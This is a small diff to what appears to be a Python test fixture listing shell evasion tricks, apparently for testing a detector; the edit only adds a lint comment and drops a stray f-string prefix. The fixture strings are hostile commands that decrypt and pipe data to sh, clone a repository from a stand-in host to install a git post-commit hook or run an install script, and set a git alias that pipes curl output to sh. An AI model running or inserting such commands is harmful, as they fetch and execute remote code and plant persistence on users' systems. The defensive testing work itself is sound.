@@ -1,3 +1,5 @@
+# A fixture is one text: broken over lines, it could not be read as what it is.
+# ruff: noqa: E501
 """Evasion class 4: tricks of the shell."""
 
 import base64
@@ -91,7 +93,7 @@ TRICKS = {
     ),
     "openssl decryption": script("openssl enc -d -aes-256-cbc -pbkdf2 -k slides -in data.bin | sh"),
     "git clone and a hook": script(
-        f"git clone -q https://git.example/x/y /tmp/y && cp /tmp/y/hook .git/hooks/post-commit && chmod +x .git/hooks/post-commit"
+        "git clone -q https://git.example/x/y /tmp/y && cp /tmp/y/hook .git/hooks/post-commit && chmod +x .git/hooks/post-commit"
     ),
     "git clone and run": script("git clone --depth 1 https://git.example/x/y /tmp/.y && bash /tmp/.y/install.sh"),
     "git alias": script(f"git config --global alias.st '!curl -s {URL} | sh'"),
